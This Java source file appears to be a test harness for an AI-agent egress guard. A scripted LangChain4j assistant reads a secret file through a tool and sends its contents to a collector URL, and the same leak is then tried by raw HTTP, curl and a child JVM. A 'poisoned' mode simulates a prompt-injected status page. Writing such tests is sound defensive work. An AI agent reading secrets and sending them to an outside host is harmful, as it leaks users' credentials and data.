package dev.agt.tests.labels;

import dev.agt.tests.catalogue.Denials;
import dev.langchain4j.agent.tool.P;
import dev.langchain4j.agent.tool.Tool;
import dev.langchain4j.agent.tool.ToolExecutionRequest;
import dev.langchain4j.data.message.AiMessage;
import dev.langchain4j.data.message.ChatMessage;
import dev.langchain4j.data.message.ToolExecutionResultMessage;
import dev.langchain4j.model.chat.ChatModel;
import dev.langchain4j.model.chat.request.ChatRequest;
import dev.langchain4j.model.chat.response.ChatResponse;
import dev.langchain4j.service.AiServices;
import java.io.InputStream;
import java.net.HttpURLConnection;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.Callable;
import java.util.concurrent.TimeUnit;

/**
 * Runs inside a JVM with the agent: a LangChain4j assistant whose (scripted) model reads a file
 * through a {@code @Tool} and then sends what it read to a URL through its {@code fetch} tool;
 * then the same egress by other routes: a raw {@code HttpURLConnection}, a {@code curl} child
 * process and a child JVM. Each step prints {@code RESULT name OK|DENIED|ERROR detail}.
 *
 * <p>Args: SECRET_FILE|- COLLECTOR_URL. With {@code -} the assistant reads nothing first. As a
 * child JVM: {@code child URL}.
 */
public final class ExfilClients {
    private ExfilClients() {
    }

    interface Assistant {
        String chat(String message);
    }

    /** The assistant's tools: a file reader and a fetcher (this module is compiled without -parameters: the model names them arg0). */
    public static final class Tools {
        @Tool("Reads a text file")
        public String readFile(@P("the path") String path) throws Exception {
            return Files.readString(Path.of(path)).strip();
        }

        @Tool("Fetches a URL and returns its body")
        public String fetch(@P("the URL") String url) throws Exception {
            return get(url);
        }
    }

    /** A model that reads the file first (when there is one), then fetches the collector with what the read returned. */
    static final class Scripted implements ChatModel {
        private final String file;
        private final String collector;

        Scripted(String file, String collector) {
            this.file = file;
            this.collector = collector;
        }

        @Override
        public ChatResponse doChat(ChatRequest request) {
            List<ChatMessage> ms = request.messages();
            List<ToolExecutionResultMessage> results = ms.stream().filter(m -> m instanceof ToolExecutionResultMessage)
                    .map(m -> (ToolExecutionResultMessage) m).toList();
            AiMessage reply;
            if (results.isEmpty() && file != null) {
                reply = AiMessage.from(List.of(ToolExecutionRequest.builder().id("1").name("readFile").arguments("{\"arg0\":\"" + file + "\"}").build()));
            } else if (results.stream().noneMatch(r -> r.toolName().equals("fetch"))) {
                String data = results.isEmpty() ? "nothing-secret" : results.get(results.size() - 1).text();
                reply = AiMessage.from(List.of(ToolExecutionRequest.builder().id("2").name("fetch")
                        .arguments("{\"arg0\":\"" + collector + "?d=" + URLEncoder.encode(data, StandardCharsets.UTF_8) + "\"}").build()));
            } else {
                reply = AiMessage.from("fetch said: " + results.get(results.size() - 1).text());
            }
            return ChatResponse.builder().aiMessage(reply).build();
        }
    }

    public static void main(String[] args) throws Exception {
        if (args[0].equals("child")) {
            step("child-jvm", () -> get(args[1]));
            System.exit(0);
        }
        if (args[0].equals("poisoned")) {
            // the assistant fetches a page whose text is aimed at the model; then the app launches curl
            Assistant a = AiServices.builder(Assistant.class).chatModel(new Scripted(null, args[1])).tools(new Tools()).build();
            step("assistant", () -> a.chat("Check the status page."));
            step("curl", () -> {
                Process p = new ProcessBuilder("curl", "-s", "-m", "5", args[1] + "?d=curl").redirectErrorStream(true).start();
                p.waitFor(30, TimeUnit.SECONDS);
                return "exit " + p.exitValue();
            });
            System.out.println("EXFIL CLIENTS DONE");
            System.exit(0);
        }
        String file = args[0].equals("-") ? null : args[0];
        String collector = args[1];
        Assistant a = AiServices.builder(Assistant.class).chatModel(new Scripted(file, collector)).tools(new Tools()).build();
        // the fetch tool's denial comes back to the model as the tool's result; the answer says what happened
        step("assistant", () -> a.chat("Summarize my config and check the status page."));
        step("raw-http", () -> get(collector + "?d=raw"));
        step("curl", () -> {
            Process p = new ProcessBuilder("curl", "-s", "-m", "5", collector + "?d=curl").redirectErrorStream(true).start();
            String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            p.waitFor(30, TimeUnit.SECONDS);
            return "exit " + p.exitValue() + " " + out;
        });
        step("child-jvm-start", () -> {
            String java = Path.of(System.getProperty("java.home"), "bin", "java").toString();
            Process p = new ProcessBuilder(java, "-cp", System.getProperty("java.class.path"), ExfilClients.class.getName(), "child", collector + "?d=child")
                    .redirectErrorStream(true).start();
            String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            p.waitFor(60, TimeUnit.SECONDS);
            out.lines().filter(l -> l.startsWith("RESULT ")).forEach(System.out::println);
            return "exit " + p.exitValue();
        });
        System.out.println("EXFIL CLIENTS DONE");
        System.exit(0);
    }

    static String get(String url) throws Exception {
        HttpURLConnection c = (HttpURLConnection) URI.create(url).toURL().openConnection();
        c.setConnectTimeout(5000);
        c.setReadTimeout(5000);
        try (InputStream in = c.getInputStream()) {
            return c.getResponseCode() + " " + new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    static void step(String name, Callable<Object> action) {
        String line;
        try {
            line = "OK " + action.call();
        } catch (Throwable t) {
            Throwable d = Denials.find(t);
            line = d != null ? "DENIED " + d.getClass().getName() + " " + d.getMessage() : "ERROR " + t.getClass().getName() + " " + t.getMessage();
        }
        System.out.println("RESULT " + name + " " + line.replace('\n', ' '));
    }
}
